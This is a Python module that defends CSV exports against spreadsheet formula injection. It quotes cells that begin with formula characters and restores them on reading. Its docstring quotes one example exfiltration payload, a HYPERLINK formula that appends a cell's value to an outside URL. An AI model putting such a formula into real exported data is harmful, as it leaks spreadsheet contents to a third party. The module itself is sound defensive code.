"""Spreadsheet-safe CSV cells: a text cell that a spreadsheet would run as a formula is written quoted, and read back
as it was.

A model's reply, a judge's reasoning or a dataset's question may begin with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return; opened in Excel, LibreOffice or Google Sheets, ``=HYPERLINK("http://…/?"&C2,"see")`` runs (CSV
injection, OWASP "CSV Injection"). OWASP's defence is a leading apostrophe, which spreadsheets show as text. So that
xlingmed reads its own CSVs back unchanged, a text that begins with an apostrophe gets one too: on reading, exactly
one leading apostrophe is removed (``restore``). Numbers are never touched (``-0.5`` stays a number); only text
cells are. ``scores.parquet`` keeps every text raw.
"""

from __future__ import annotations

import math
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe(value: Any) -> Any:
    """``value`` as a CSV cell: a text beginning with a formula character or an apostrophe, prefixed with ``'``."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, QUOTE)):
        return QUOTE + value
    return value


def restore(value: Any) -> Any:
    """A cell as ``safe`` wrote it, back to the text it was (one leading apostrophe removed)."""
    if isinstance(value, str) and value.startswith(QUOTE):
        return value[1:]
    return value


def restore_frame(table: Any) -> Any:
    """Every text column of a pandas DataFrame read from a CSV xlingmed wrote, ``restore``d (in place; returned)."""
    from pandas.api.types import is_object_dtype, is_string_dtype

    for column in table.columns:
        if is_object_dtype(table[column]) or is_string_dtype(table[column]):  # pandas 3 reads text as ``str``
            table[column] = table[column].map(restore)
    return table


def read_csv(path: Any, text_columns: tuple[str, ...] = ("item_id", "lang")) -> Any:
    """A CSV xlingmed wrote (``output.write_csv``), back as a pandas DataFrame with every text as it was written.

    pandas alone guesses: a reply ``None``, ``NA`` or ``null`` became a missing value, ``00`` the number 0. Here a
    column is numeric (or boolean) only where pandas read it so *and* no cell was lost or changed by that reading
    (every non-empty cell reads as a number, ``True`` or ``False``); any other column is text, exactly as written
    (``restore``d), with an empty cell ``None``, as ``write_csv`` writes ``None``. ``text_columns`` are text
    always. Raises what ``pandas.read_csv`` raises (``OSError``, ``pandas.errors.ParserError``)."""
    import pandas as pd
    from pandas.api.types import is_bool_dtype, is_numeric_dtype

    typed = pd.read_csv(path, dtype={c: str for c in text_columns})
    text = pd.read_csv(path, dtype=str, keep_default_na=False)
    for column in typed.columns:
        raw = text[column]
        if (is_numeric_dtype(typed[column]) or is_bool_dtype(typed[column])) and column not in text_columns:
            filled = raw[raw != ""]
            if filled.map(_is_number).all():
                continue
        typed[column] = pd.Series([restore(c) if c else None for c in raw], index=raw.index, dtype=object)
    return typed


def _is_number(cell: str) -> bool:
    if cell in ("True", "False"):
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and "_" not in cell  # " 1" and "1_000" are text float() would take


def cell(value: Any) -> Any:
    """A table cell as Python: ``None`` for a missing value (``None``, NaN, ``""``), else the value. Rows come
    live from a task or back from its CSV, so the same score functions read both."""
    if value is None or (isinstance(value, float) and math.isnan(value)) or value == "":
        return None
    return value


def number(value: Any) -> float | None:
    """A cell as a float (``True``/``"True"`` → 1.0), ``None`` when missing or not a number."""
    v = cell(value)
    if v is None:
        return None
    if isinstance(v, str):
        if v in ("True", "False"):
            return 1.0 if v == "True" else 0.0
        try:
            return float(v)
        except ValueError:
            return None
    return float(v)
